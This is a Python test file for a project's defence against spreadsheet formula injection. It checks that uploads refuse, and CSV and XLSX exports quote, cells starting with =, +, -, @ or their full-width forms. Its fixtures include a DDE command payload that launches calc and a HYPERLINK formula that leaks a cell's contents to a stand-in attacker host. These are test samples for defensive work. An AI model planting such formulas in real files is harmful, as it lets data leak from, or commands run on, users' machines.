"""One rule for formula cells: what an upload refuses is exactly what an export quotes."""

from __future__ import annotations

import csv
import io
import sys
import unicodedata

import pandas as pd
import pytest

from geo.cells import FOLDED_STARTS, FORMULA_STARTS, formula_cells, is_formula, neutralise
from geo.io.exports import excel_csv
from geo.validation import check_record

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://x")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-1+A1",
    "-2-3",
    "+86-138-1234-5678",  # a spreadsheet would subtract: quoted on the way out
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\u3000=1+1",  # ideographic space
    "\uff1dSUM(A1)",  # full-width =
    "\uff0bcmd",  # full-width +
    "\uff0d1+A1",  # full-width -
    "\uff20SUM(A1)",  # full-width @
    "-abc",  # the upload used to accept this (its own looser rule); the export quoted it
    "=",
]
DATA = [
    "-60",
    "-1.5",
    "+86",
    "+7e2",
    " -60",
    "\uff0d\uff16\uff10",  # -60 in full width
    "+86 13812345678",  # a phone is data, not a formula
    "+86 138 1234 5678",
    "+8613812345678",
    "0123",
    "王",
    "a=b",
    "幸福路12-3号",
    "\tplain",  # the export used to quote any cell starting with a tab or CR
    "",
    "   ",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_are_formulas_and_get_an_apostrophe(text):
    assert is_formula(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", DATA)
def test_numbers_phones_and_text_are_data_and_stay_as_written(text):
    assert not is_formula(text)
    assert neutralise(text) == text


def test_a_column_is_judged_cell_by_cell_like_one_cell():
    cells = pd.Series([*FORMULAS, *DATA, None], dtype=object)
    expected = [True] * len(FORMULAS) + [False] * (len(DATA) + 1)
    assert formula_cells(cells).tolist() == expected
    arrow = pd.Series([*FORMULAS, *DATA], dtype="string[pyarrow]")
    assert formula_cells(arrow).tolist() == expected[:-1]


def test_the_folded_starts_are_every_character_that_folds_to_a_formula_start():
    found = {
        c
        for c in map(chr, range(sys.maxunicode + 1))
        if not 0xD800 <= ord(c) <= 0xDFFF and unicodedata.normalize("NFKC", c)[:1] in FORMULA_STARTS
    }
    assert found == FOLDED_STARTS


@pytest.mark.parametrize(
    ("text", "refused"),
    [(t, True) for t in FORMULAS if t.strip()] + [(t, False) for t in DATA if t.strip()],
)
def test_an_upload_refuses_exactly_the_cells_an_export_quotes(text, refused):
    record = {"external_ref": "U-1", "address": text, "kind": "单间"}
    _, problems = check_record(record, kind="rentals")
    assert (("address", "formula") in problems) is refused
    exported = excel_csv(pd.DataFrame({"address": [text]})).decode("utf-8-sig")
    cell = next(csv.reader(io.StringIO(exported[exported.index("\n") + 1 :])))[0]
    assert cell.startswith("'") is refused


# --------------------------------------------------------------------------- every writer


HOSTILE_AREA = '=HYPERLINK("http://attacker.example/?"&A1,"社区")'


def test_neutralise_frame_quotes_formula_cells_and_headings_and_keeps_numbers():
    from geo.cells import neutralise_frame

    table = pd.DataFrame(
        {"name": FORMULAS, "n": range(len(FORMULAS)), "=h": [None] * len(FORMULAS)}
    )
    out = neutralise_frame(table)
    assert not any(is_formula(v) for v in out["name"])
    # the cell's text as a spreadsheet shows it (a carriage return a line break), quoted
    assert out["name"].tolist() == [neutralise(v.replace("\r", "\n")) for v in FORMULAS]
    assert out["n"].tolist() == list(range(len(FORMULAS))) and "'=h" in out.columns


def test_stats_areas_as_csv_writes_no_live_formula(demo_copy):
    from tests import databases
    from tests.conftest import run_cli

    databases.execute(
        demo_copy,
        "UPDATE area SET name = ? WHERE id = (SELECT min(id) FROM area WHERE level = 'community')",
        (HOSTILE_AREA,),
    )
    done = run_cli("--db", demo_copy, "stats", "areas", "--level", "community", "--format", "csv")
    assert done.returncode == 0, done.stderr
    cells = [cell for row in csv.reader(io.StringIO(done.stdout)) for cell in row]
    assert "'" + HOSTILE_AREA in cells
    assert not [c for c in cells if is_formula(c)]


def test_a_field_kit_list_writes_no_live_formula():
    from geo.io.kits import _csv

    data = _csv(pd.DataFrame({"name": ["U1"], "label": [HOSTILE_AREA]})).decode()
    cells = [cell for row in csv.reader(io.StringIO(data)) for cell in row]
    assert "'" + HOSTILE_AREA in cells and not [c for c in cells if is_formula(c)]


def test_a_carriage_return_in_a_cell_starts_no_line_with_a_formula():
    """A bare carriage return ends a line for a spreadsheet: unquoted, the rest of the cell
    ("\r=1") began a row of its own with a live formula."""
    from geo.io.kits import _csv

    data = _csv(pd.DataFrame({"name": ["U1"], "label": ["\r=1+1"]})).decode()
    rows = list(csv.reader(io.StringIO(data, newline="")))
    assert len(rows) == 2
    assert not [c for row in rows for c in row if is_formula(c)]


def test_xlsx_exports_store_formula_looking_text_as_text_never_as_a_formula():
    import zipfile

    from geo.io.exports import typed_xlsx

    data = typed_xlsx(pd.DataFrame({"name": [HOSTILE_AREA], "n": [1]}), sheet="s")
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula element anywhere
